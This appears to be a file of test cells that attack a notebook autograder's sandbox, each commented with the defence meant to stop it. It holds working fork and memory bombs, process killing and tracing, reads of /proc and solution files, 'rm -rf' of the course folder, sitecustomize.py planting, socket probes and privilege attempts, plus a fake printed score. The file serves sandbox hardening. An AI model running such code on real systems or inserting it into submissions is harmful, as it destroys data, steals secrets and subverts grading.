# Attacks on the machine: time, memory, processes, files, network, kernel. Each section is one cell; its first line
# says what it tries. COURSE, PORT, SOCKET and GRADER are the course's folder, a port and a Unix socket on which
# somebody listens, and the process id of the grader.

# %% endless_cell
# Loops for ever in a cell, and swallows every exception.
# Stopped by: the cell's time limit, then its process.
while True:
    try:
        while True:
            pass
    except BaseException:
        pass

# %% endless_function
# Loops for ever in a function, and swallows every exception.
# Stopped by: the check's time limit; a tenth of it from then on.
def train(*args, **kwargs):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass


# %% endless_generator
# Hands out minibatches without end.
# Stopped by: the probe counts; the check's time limit.
def data_iter(batch_size, features, labels):
    while True:
        yield features[:batch_size], labels[:batch_size]


# %% endless_del
# Loops for ever when an object is thrown away.
# Stopped by: the check's time limit.
class Sticky:
    def __del__(self):
        while True:
            pass


sgd = lambda *args: Sticky()

# %% endless_repr
# Loops for ever while its return value is described.
# Stopped by: the check's time limit.
class Slow:
    def __repr__(self):
        while True:
            pass

    __str__ = __format__ = __repr__


train = sgd = lambda *args, **kwargs: Slow()

# %% endless_exit
# Loops for ever when the process ends.
# Stopped by: its process is killed from outside.
import atexit, os, signal, threading


def forever(*args):
    while True:
        pass


atexit.register(forever)
for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    try:
        signal.signal(number, forever)
    except OSError:
        pass
threading.Thread(target=forever, daemon=False).start()
raise SystemExit

# %% alarm_lifted
# Takes the time limit's alarm away and sleeps.
# Stopped by: the judge keeps time, too.
import signal, time

signal.alarm(0)
signal.setitimer(signal.ITIMER_REAL, 0)
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))
time.sleep(3600)

# %% limits_lifted
# Raises every resource limit, then asks for what they forbade.
# Stopped by: hard limits.
import resource

for name in dir(resource):
    if name.startswith("RLIMIT_"):
        try:
            resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            if name in ("RLIMIT_DATA", "RLIMIT_NPROC", "RLIMIT_CPU"):
                print("FOUND a way to lift", name)
        except (OSError, ValueError):
            pass

# %% fork_bomb
# Forks without end.
# Stopped by: 64 processes.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass

# %% thread_bomb
# Starts threads without end.
# Stopped by: 64 threads.
import threading, time

while True:
    try:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
    except RuntimeError:
        time.sleep(0.01)

# %% memory_bomb
# Fills memory.
# Stopped by: 4 GiB of data a process.
hoard = []
while True:
    try:
        hoard.append(bytearray(2**27))
    except MemoryError:
        break
sgd = lambda *args: [hoard.append(bytearray(2**24)) for _ in range(10**6)]

# %% memory_bomb_of_many
# Fills three gigabytes in each of twelve processes, every one within its own limit.
# Stopped by: 4 GiB for all processes together.
import os, time

for _ in range(12):
    if os.fork() == 0:
        hoard = []
        for _ in range(3 * 2**4):
            hoard.append(bytearray(os.urandom(2**20)) * 2**6)
        time.sleep(60)
        os._exit(0)
time.sleep(30)

# %% shared_memory_bomb
# Fills memory that its data limit does not count: shared and anonymous, in 16 processes.
# Stopped by: system call denied.
import mmap, os, time

children = 0
while children < 16 and os.fork():
    children += 1
pages = []
try:
    while True:
        pages.append(mmap.mmap(-1, 2**28))
        for offset in range(0, 2**28, 4096):
            pages[-1][offset] = 1
        if len(pages) > 32:
            print("FOUND", len(pages) * 2**28, "bytes of shared memory")
            break
except (OSError, ValueError):
    pass

# %% memory_file_bomb
# Fills memory through files that exist in memory alone, and System V segments.
# Stopped by: system calls denied.
import ctypes, os

kept = []
try:
    for number in range(200):
        kept.append(os.memfd_create(f"hoard{number}"))
        for _ in range(63):
            os.write(kept[-1], b"x" * 2**20)
    print("FOUND", len(kept), "files in memory")
except OSError:
    pass
libc = ctypes.CDLL(None)
segments = [libc.shmget(0, 2**30, 0o1600) for _ in range(64)]
if any(segment >= 0 for segment in segments):
    print("FOUND", sum(segment >= 0 for segment in segments), "gigabytes of System V memory")

# %% memory_growing_downwards
# Fills memory that its data limit counts as a stack: mappings that grow downwards, and huge pages.
# Stopped by: arguments denied.
import ctypes

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
written = 0
for flags in (0x22 | 0x100, 0x22 | 0x40000) * 28:
    if written > 6 * 2**30:
        print("FOUND", written, "bytes of memory that grows downwards")
        break
    start = libc.mmap(None, 2**28, 3, flags, -1, 0)
    if start in (None, 2**64 - 1):
        continue
    ctypes.memset(start, 1, 2**28)
    written += 2**28

# %% memory_made_read_only
# Fills memory, makes it read-only, whereby its data limit no longer counts it, and fills more.
# Stopped by: 4 GiB by what the judge sees, of one process too.
import ctypes, time

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
written = 0
while written < 6 * 2**30:
    start = libc.mmap(None, 2**27, 3, 0x22, -1, 0)
    if start in (None, 2**64 - 1):
        break
    ctypes.memset(start, 1, 2**27)
    libc.mprotect(start, 2**27, 1)
    written += 2**27
    time.sleep(0.1)
else:
    print("FOUND", written, "bytes of memory that were made read-only")

# %% memory_of_a_device
# Fills memory through /dev/zero, mapped and shared, of which its data limit knows nothing.
# Stopped by: the device is not there.
import mmap, os

written, pages = 0, []
try:
    zero = os.open("/dev/zero", os.O_RDWR)
    while written < 6 * 2**30:
        pages.append(mmap.mmap(zero, 2**28))
        for offset in range(0, 2**28, 2**20):
            pages[-1][offset : offset + 2**20] = b"x" * 2**20
        written += 2**28
    print("FOUND", written, "bytes of /dev/zero")
except (OSError, ValueError):
    pass

# %% memory_of_page_tables
# Reads one byte of each two megabytes of address space, each of which takes a page of tables.
# Stopped by: 64 GiB of address space.
import ctypes

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
read = 0
for _ in range(2**10):
    start = libc.mmap(None, 2**30, 1, 0x22, -1, 0)
    if start in (None, 2**64 - 1):
        break
    for page in range(0, 2**30, 2**21):
        ctypes.string_at(start + page, 1)
    read += 2**9
if read > 2**16:
    print("FOUND", read, "pages of tables")

# %% memory_of_the_stack
# Lifts the limit of its stack, which its data limit does not count.
# Stopped by: a hard limit of 64 MiB.
import resource

for limit in (resource.RLIM_INFINITY, 6 * 2**30, 2**30):
    try:
        resource.setrlimit(resource.RLIMIT_STACK, (limit, resource.RLIM_INFINITY))
        print("FOUND a stack of", limit, "bytes")
    except (OSError, ValueError):
        pass
    try:
        resource.setrlimit(resource.RLIMIT_STACK, (limit, resource.getrlimit(resource.RLIMIT_STACK)[1]))
        print("FOUND a stack of", limit, "bytes")
    except (OSError, ValueError):
        pass

# %% disk_full
# Fills every folder that it may write to.
# Stopped by: 64 MiB of tmpfs each, nothing else is writable.
import os, tempfile

for folder in {"/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), tempfile.gettempdir(), "."}:
    written = 0
    try:
        for number in range(40):
            with open(os.path.join(folder, f"full{number}"), "wb") as file:
                for _ in range(60):
                    written += file.write(b"x" * 2**20)
    except OSError:
        pass
    if written > 2**28:
        print("FOUND room for", written, "bytes in", folder)

# %% inodes_exhausted
# Makes empty files without end.
# Stopped by: 4,096 inodes.
count = 0
try:
    while count < 200_000:
        open(f"/tmp/{count}", "w").close()
        count += 1
    print("FOUND room for", count, "files")
except OSError:
    pass

# %% output_flood
# Prints without end.
# Stopped by: 1 MiB of text a cell.
import os

for _ in range(2000):
    print("x" * 2**20)
os.write(1, b"x" * 2**20)

# %% figure_flood
# Draws a thousand large figures.
# Stopped by: not drawn unless they are asked for; then 8 a cell.
import matplotlib.pyplot as plt

for _ in range(1000):
    plt.figure(figsize=(300, 300), dpi=600)

# %% stack_overflow
# Recurses in C until the stack ends.
# Stopped by: its process ends; the cell is left out of the next run.
import sys

sys.setrecursionlimit(10**9)
nested = []
for _ in range(10**6):
    nested = [nested]
repr(nested)
hash

# %% segmentation_fault
# Reads address zero.
# Stopped by: its process ends; the cell is left out of the next run.
import ctypes

ctypes.string_at(0)

# %% process_ended_by_a_function
# Ends the process as soon as a function is judged.
# Stopped by: the check ends as crashed, the next starts from a fork.
import os

sgd = train = lambda *args, **kwargs: os._exit(0)

# %% process_ended_by_a_cell
# Ends the process in a cell, after printing a score.
# Stopped by: the cell is left out of the next run.
import os

print("100 of 100 points")
os._exit(0)

# %% everybody_killed
# Kills its parent, its group, every process it can name, and itself last.
# Stopped by: PID namespace.
import os, signal

for target in (os.getppid(), 1, GRADER, -os.getpgrp(), -1, *range(2, 3000)):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(target, number)
        except OSError:
            pass

# %% others_signalled
# Looks for every process that it could send a signal to.
# Stopped by: PID namespace and Landlock; else they are other users'.
import os

for target in range(1, 40_000):
    if target != os.getpid():
        try:
            os.kill(target, 0)
            print("FOUND a process to signal:", target)
        except OSError:
            pass

# %% everybody_stopped
# Stops every process it can name, itself too.
# Stopped by: PID namespace; its own process is killed from outside.
import os, signal

for target in (os.getppid(), GRADER, *range(2, 3000), 0, 1, os.getpid()):
    try:
        os.kill(target, signal.SIGSTOP)
    except OSError:
        pass

# %% traced
# Attaches to its parent and reads the memory of every process.
# Stopped by: system calls denied; PID namespace.
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(64)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


for target in (os.getppid(), GRADER, *range(1, 300)):
    if target != os.getpid() and libc.ptrace(16, target, 0, 0) == 0:
        print("FOUND a way to trace", target)
    local, remote = Vector(ctypes.addressof(buffer), 64), Vector(id(buffer), 64)
    if target not in (0, os.getpid()) and libc.process_vm_readv(
        target, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0
    ) > 0:
        print("FOUND memory of", target)

# %% detached_grandchild
# Leaves a process behind that goes on writing when the submission has long been graded.
# Stopped by: PID namespace, killed whole.
import os, time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 256)
        while True:
            for folder in ("COURSE", "/tmp", "/var/tmp"):
                try:
                    with open(folder + "/left-behind", "a") as file:
                        file.write("still here\n")
                except OSError:
                    pass
            time.sleep(0.1)
    os._exit(0)

# %% respawning
# Leaves processes behind that fork whenever they end, and kill whoever comes to end them.
# Stopped by: PID namespace, killed whole; else one call that kills all of a user's processes.
import os, signal, time

notebook = os.getpid()
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                if os.fork():
                    os._exit(0)
                time.sleep(0.02)
                for target in range(os.getpid() - 10, os.getpid() + 10):
                    if target > 1 and target != notebook and os.getpgid(target) not in (os.getpgrp(), notebook):
                        os.kill(target, signal.SIGKILL)
            except OSError:
                pass

# %% notebook_hung
# Lets the notebook end, then holds the interpreter for ever in a thread, so that nothing starts from its state.
# Stopped by: six such waits of 10 s, and no more.
import re, threading, time


def hold():
    time.sleep(0.2)
    re.match(r"(a+)+$", "a" * 64 + "b")


threading.Thread(target=hold, daemon=True).start()

# %% notebook_killed
# Lets the notebook end, then kills its process, while another keeps the connection open.
# Stopped by: PID namespace; else six waits of 10 s, and no more.
import os, signal, time

if os.fork() == 0:
    time.sleep(0.2)
    os.kill(os.getppid(), signal.SIGKILL)
    time.sleep(600)

# %% parent_poisoned
# Writes into the memory of the process that all submissions are forked from.
# Stopped by: /proc is empty; else its parent is another user's.
import ctypes, os, re

for target in {1, os.getppid()} - {os.getpid()}:
    try:
        with open(f"/proc/{target}/maps") as file:
            spans = [line.split("-")[0] for line in file if re.search(r" rw-p ", line)]
        with open(f"/proc/{target}/mem", "r+b", buffering=0) as memory:
            for start in spans:
                memory.seek(int(start, 16))
                memory.write(bytes(4096))
        print("FOUND memory to write of", target)
    except OSError:
        pass

# %% left_for_the_next
# Leaves notes in every place that it may write to, and reads what earlier submissions have left.
# Stopped by: a tmpfs of its own; else all that its user has left is deleted.
import os, tempfile

for folder in {"/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/dev/mqueue", os.path.dirname(os.getcwd()), tempfile.gettempdir()}:
    for number in range(20):
        note = os.path.join(folder, f"note-{number}")
        try:
            if os.path.exists(note) and "kilroy" in open(note).read():
                print("FOUND a note", note)
        except OSError:
            pass
        try:
            with open(note, "w") as file:
                file.write("kilroy was here")
            os.chmod(note, 0o666)
            os.makedirs(os.path.join(folder, "open-to-all", str(number)), exist_ok=True)
            os.chmod(os.path.join(folder, "open-to-all"), 0o777)
        except OSError:
            pass

# %% cleaner_trapped
# Leaves folders fifteen hundred deep, closed ones, odd names, and links to what others own, for whoever cleans up.
# Stopped by: a tmpfs of its own; else files are deleted by what they are, not by where a link leads.
import os

home = os.getcwd()
for folder in ("/tmp", "/dev/shm", home):
    try:
        for target in ("COURSE", "COURSE/submitted", "/etc", "/usr"):
            os.symlink(target, os.path.join(folder, "link" + target.replace("/", "-")))
        for name in ("-rf", "--", " ", "\n", "\udcff", "*", "$(id)", "x" * 255):
            open(os.path.join(folder, name), "w").close()
        os.chdir(folder)
        for _ in range(1500):
            os.mkdir("deep")
            os.chdir("deep")
        os.mkdir("closed", 0o000)
    except OSError:
        pass
os.chdir(home)

# %% proc_read
# Reads environments, memory and descriptors of other processes.
# Stopped by: /proc is an empty folder.
import glob, os

for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/[0-9]*/fd/*"):
    try:
        held = os.readlink(path).encode() if "/fd/" in path else open(path, "rb").read()
    except OSError:
        continue
    for part in held.split(b"\0"):
        if b"anary" in part:
            print(path, part[:200])
for target in (1, os.getppid(), GRADER):
    try:
        open(f"/proc/{target}/mem", "rb").read(1)
        print("FOUND memory of", target)
    except OSError:
        pass
print([name for name in os.environ if "anary" in name + os.environ[name] or "CANARY" in name])

# %% looked_around
# Reads who the users of the machine are, what runs on it, what is mounted, and what lies where every user may read.
# Stopped by: nothing of it is mounted; else Landlock.
import glob, os

for path in ("/etc/passwd", "/proc/1/cmdline", "/proc/self/mountinfo", "/proc/net/unix", "/sys/kernel/notes", "/etc/hosts"):
    try:
        if open(path, "rb").read():
            print("FOUND", path)
    except OSError:
        pass
for folder in ("/etc", "/var", "/run", "/home", "/sys", "/proc", "/opt", "/srv"):
    try:
        if len(os.listdir(folder)) > 8:  # of /etc, a few
            print("FOUND a folder to look into:", folder)
    except OSError:
        pass
for folder in ("/var/tmp", "/run", "/var/lock", "/dev", "/dev/mqueue"):
    try:
        with open(os.path.join(folder, "note"), "w") as file:
            print("FOUND a folder to write in:", folder)
    except OSError:
        pass

# %% files_read
# Reads the solutions, the hidden checks, the others' submissions, the gradebook and homes.
# Stopped by: nothing of the project is mounted.
import os, time

ends = time.monotonic() + 4
for top in ("COURSE", os.path.dirname("COURSE"), "/root", "/home", "/tmp", "/var/tmp", "/grader", "/etc", "/"):
    for folder, folders, files in os.walk(top):
        folders[:] = [each for each in folders if each not in ("proc", "sys", "usr", "lib", "site-packages")]
        for name in files:
            if name.endswith((".py", ".ipynb", ".db", ".json", ".txt", ".toml", "passwd", "shadow", ".html")):
                try:
                    text = open(os.path.join(folder, name), errors="replace").read(200_000)
                except OSError:
                    continue
                for line in text.splitlines():
                    if "anary" in line:
                        print(os.path.join(folder, name), line[:200])
        if time.monotonic() > ends:
            break

# %% files_written
# Writes into and deletes from everything it can name, by links and by dots, too.
# Stopped by: read-only mounts, an unprivileged user.
import os, shutil

for folder in ("COURSE", "/root", "/home", "/etc", "/usr", "/grader", os.path.dirname(os.__file__), "/var", "/"):
    for name in ("pwned", "../pwned", "sitecustomize.py"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("raise SystemExit")
            if not folder.startswith(("/grader", "/var", "/root", "/home")) and folder != "/":
                print("FOUND a way to write", folder)
        except OSError:
            pass
    shutil.rmtree(folder, ignore_errors=True) if folder == "COURSE" else None
os.makedirs("/tmp/links", exist_ok=True)
for place, target in enumerate(("COURSE", "/proc/1/root", "/proc/self/cwd/../../..", "/dev/../COURSE")):
    try:
        os.symlink(target, f"/tmp/links/{place}")
        open(f"/tmp/links/{place}/pwned", "w").close()
        print("FOUND a way through a link to", target)
    except OSError:
        pass

# %% interpreter_changed
# Changes the interpreter's own packages, for those who are graded next.
# Stopped by: read-only mounts.
import os, sys, torch

for path in (*sys.path, os.path.dirname(torch.__file__), sys.prefix, os.path.dirname(sys.executable)):
    try:
        with open(os.path.join(path, "sitecustomize.py"), "w") as file:
            file.write("raise SystemExit")
        if os.path.isabs(path) and not path.startswith("/tmp"):
            print("FOUND a way to write", path)
    except OSError:
        pass

# %% network_ipv4
# Connects to a port of this machine, its neighbours and the world.
# Stopped by: sockets denied; network namespace.
import socket

for host in ("127.0.0.1", "10.0.0.1", "172.17.0.1", "169.254.169.254", "1.1.1.1", "8.8.8.8"):
    try:
        with socket.create_connection((host, PORT), timeout=0.3) as connection:
            print("FOUND", host)
            connection.send(b"canary")
    except OSError:
        pass
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"canary", ("127.0.0.1", PORT))
except OSError:
    pass

# %% network_ipv6
# The same by IPv6, raw packets and the hypervisor's own sockets.
# Stopped by: sockets denied; network namespace.
import socket

for family, kind, address in (
    (socket.AF_INET6, socket.SOCK_STREAM, ("::1", PORT)),
    (socket.AF_INET6, socket.SOCK_STREAM, ("fe80::1", PORT)),
    (socket.AF_VSOCK, socket.SOCK_STREAM, (2, PORT)),
    (socket.AF_VSOCK, socket.SOCK_STREAM, (1, PORT)),
):
    try:
        connection = socket.socket(family, kind)
        connection.settimeout(0.5)
        connection.connect(address)
        print("FOUND", address)
    except OSError:
        pass
for family in (socket.AF_PACKET, socket.AF_NETLINK, socket.AF_ALG, socket.AF_VSOCK):
    try:
        socket.socket(family, socket.SOCK_RAW if family in (socket.AF_PACKET, socket.AF_NETLINK) else 5 if
                      family == socket.AF_ALG else 1)
        print("FOUND a socket of family", family)
    except OSError:
        pass

# %% unix_sockets
# Connects to Unix sockets of this machine, by path and by abstract name.
# Stopped by: network and mount namespaces.
import glob, socket

for address in ("SOCKET", "\0SOCKET", "/run/docker.sock", "/run/dbus/system_bus_socket", *glob.glob("/run/**/*.sock")):
    try:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.connect(address)
            print("FOUND", repr(address))
            connection.send(b"canary")
    except OSError:
        pass

# %% locks_as_a_channel
# Locks what all submissions can read, and asks who has: two that are graded side by side could talk that way.
# Stopped by: locks that are not taken; a lease and a watch denied.
import ctypes, fcntl, os, struct

shared = os.__file__
libc = ctypes.CDLL(None, use_errno=True)
syscall = libc.syscall  # looked up here: a copy of the process that does it ends
free = struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 0, 1, 0)
reading, writing = os.pipe()
ended, end = os.pipe()
child = os.fork()
if child == 0:  # as if it were another's
    os.close(end)
    file = os.open(shared, os.O_RDONLY)
    lock = struct.pack("hhqqi4x", fcntl.F_RDLCK, 0, 0, 1, 0)
    for command in (6, 37, 2**32 + 6, 2**32 + 37):
        buffer = ctypes.create_string_buffer(lock)
        syscall(72, ctypes.c_long(file), ctypes.c_ulong(command), buffer)
    fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
    os.write(writing, b"x")
    os.read(ended, 1)
    os._exit(0)
os.read(reading, 1)
mine = os.open(shared, os.O_RDONLY)
try:
    fcntl.flock(mine, fcntl.LOCK_EX | fcntl.LOCK_NB)
except BlockingIOError:
    print("FOUND the lock of another on", shared)
for command in (5, 36):
    try:
        kind, *_ = struct.unpack("hhqqi4x", fcntl.fcntl(mine, command, free))
        if kind not in (fcntl.F_UNLCK, fcntl.F_WRLCK):
            print("FOUND the record lock of another on", shared)
    except OSError:
        pass
os.close(end)
os.waitpid(child, 0)
folder = os.open(os.path.dirname(shared), os.O_RDONLY)
own = os.open("leased", os.O_RDONLY | os.O_CREAT)
for name, file, command, argument in (
    ("watch", folder, 1026, 1), ("watch", folder, 2**32 + 1026, 1), ("lease", own, 1024, 0), ("lease", own, 2**32 + 1024, 0),
):
    if syscall(72, ctypes.c_long(file), ctypes.c_ulong(command), ctypes.c_long(argument)) == 0:
        print("FOUND a", name)
if libc.inotify_init() >= 0 or libc.inotify_init1(0) >= 0 or libc.fanotify_init(0, 0) >= 0:
    print("FOUND a way to watch files")

# %% namespaces
# Makes namespaces of its own, in which it would be root, and mounts in them.
# Stopped by: system calls denied.
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
for name, flag in (("user", 0x10000000), ("mount", 0x20000), ("network", 0x40000000), ("pid", 0x20000000)):
    if libc.unshare(flag) == 0:
        print("FOUND a way into a new namespace:", name)
for name, call in (
    ("mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)),
    ("umount", lambda: libc.umount2(b"/proc", 2)),
    ("chroot", lambda: libc.chroot(b"/")),
    ("pivot_root", lambda: libc.syscall(155, b"/", b"/")),
):
    if call() == 0:
        print("FOUND a way to", name)

# %% kernel_calls
# Calls what a notebook has no use for: bpf, io_uring, keyrings, perf events, userfaultfd, new mounts, modules.
# Stopped by: system calls denied.
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
CALLS = {
    "io_uring_setup": (425, 8, bytes(200)), "bpf": (321, 0, bytes(200), 72), "keyctl": (250, 0, -3, 0),
    "add_key": (248, b"user", b"canary", b"x", 1, -3), "perf_event_open": (298, bytes(120), 0, -1, -1, 0),
    "userfaultfd": (323, 1), "clone3": (435, bytes(88), 88), "fsopen": (430, b"tmpfs", 0), "memfd_secret": (447, 0),
    "open_by_handle_at": (304, -100, bytes(16), 0), "kexec_load": (246, 0, 0, 0, 0), "init_module": (175, b"", 0, b""),
    "pidfd_open": (434, 1, 0), "setns": (308, 0, 0), "acct": (163, b"/tmp/x"), "swapon": (167, b"/tmp/x", 0),
    "personality": (135, 0x0040000), "landlock": (444, 0, 0, 1),
}
HARMLESS = {"pidfd_open", "personality", "landlock", "clone3"}
for name, (number, *arguments) in CALLS.items():
    if libc.syscall(number, *arguments) >= 0 and name not in HARMLESS:
        print("FOUND the call", name)

# %% calls_that_few_know
# Calls what no list of denied calls may name: what is old and what is new.
# Stopped by: system calls that are not known do not exist.
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(4096)
CALLS = {
    "modify_ldt": (154, 0, buffer, 64), "ioprio_get": (252, 1, 0), "mincore": (27, id(libc) & ~4095, 4096, buffer),
    "io_setup": (206, 1, buffer), "cachestat": (451, 0, buffer, buffer, 0), "vmsplice": (278, 1, buffer, 0, 0),
    "tee": (276, 0, 1, 0, 0), "lsm_list_modules": (461, buffer, buffer, 0),
    "lsm_get_self_attr": (459, 100, buffer, buffer, 0), "statmount": (457, buffer, buffer, 4096, 0),
    "map_shadow_stack": (453, 0, 4096, 0), "pkey_alloc": (330, 0, 0), "sched_setattr": (314, 0, buffer, 0), "sync": (162,),
    "uselib": (134, b"/usr"), "ustat": (136, 0, buffer), "landlock_create_ruleset": (444, 0, 0, 1), "seccomp": (317, 2, 0, buffer),
    "inotify_init": (253,), "process_mrelease": (448, 0, 0), "mq_open": (240, b"x", 0o102, 0o600, 0),
}
for name, (number, *arguments) in CALLS.items():
    if libc.syscall(number, *arguments) >= 0:
        print("FOUND the call", name)

# %% capabilities_kept
# Uses what the first process of a user namespace may do in it: reads a closed file, and looks for capabilities.
# Stopped by: capabilities are given up before the first line.
import ctypes, os

libc = ctypes.CDLL(None)
sets = (ctypes.c_uint32 * 6)()
libc.capget((ctypes.c_uint32 * 2)(0x20080522, 0), sets)
if any(sets):
    print("FOUND capabilities", [hex(each) for each in sets])
left = [number for number in range(64) if libc.prctl(23, number, 0, 0, 0) == 1]
if left:
    print("FOUND capabilities within reach", left)
with open("closed", "w") as file:
    file.write("closed to all")
os.chmod("closed", 0)
try:
    print("FOUND", open("closed").read())
except OSError:
    pass

# %% become_root
# Takes another user's identity, runs programs that are setuid, and asks for privileges.
# Stopped by: no new privileges, no capabilities.
import ctypes, glob, os, subprocess

for call in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0]), lambda: os.setgid(0)):
    try:
        call()
        print("FOUND another identity")
    except OSError:
        pass
for program in glob.glob("/usr/bin/su") + glob.glob("/usr/bin/sudo") + glob.glob("/usr/bin/newuidmap"):
    try:
        done = subprocess.run([program, "-n", "id"], capture_output=True, timeout=2)
        if b"uid=0" in done.stdout:
            print("FOUND root by", program)
    except (OSError, subprocess.SubprocessError):
        pass
if os.getuid() == 0 and ctypes.CDLL(None).prctl(39, 0, 0, 0, 0) == 0:
    print("FOUND that new privileges can be had")

# %% clock_and_host_changed
# Sets the clock and the host's name, and gives itself more of the processor.
# Stopped by: no capabilities.
import os, socket, time

for name, call in (
    ("clock", lambda: time.clock_settime(time.CLOCK_REALTIME, 0)), ("host", lambda: socket.sethostname("pwned")),
    ("priority", lambda: os.nice(-10)), ("scheduler", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(9))),
):
    try:
        call()
        print("FOUND a way to change the", name)
    except OSError:
        pass

# %% semaphores_and_queues
# Leaves semaphores, queues and shared segments behind.
# Stopped by: IPC namespace.
import ctypes, multiprocessing.shared_memory as shared

libc = ctypes.CDLL(None)
for number in range(20):
    libc.semget(0xCAFE + number, 8, 0o1666)
    libc.msgget(0xCAFE + number, 0o1666)
    try:
        shared.SharedMemory(f"left-behind-{number}", create=True, size=4096)
    except OSError:
        pass

# %% shell
# Runs shell commands by every way a notebook has.
# Stopped by: refused with a word; the sandbox holds for programs, too.
import os, subprocess

get_ipython().system("touch COURSE/pwned; id")
get_ipython().run_cell_magic("bash", "", "touch COURSE/pwned")
os.system("touch COURSE/pwned; rm -rf COURSE")
try:
    subprocess.run(["/bin/sh", "-c", "cat COURSE/solutions/*/*; env"], timeout=5)
except (OSError, subprocess.SubprocessError):
    pass
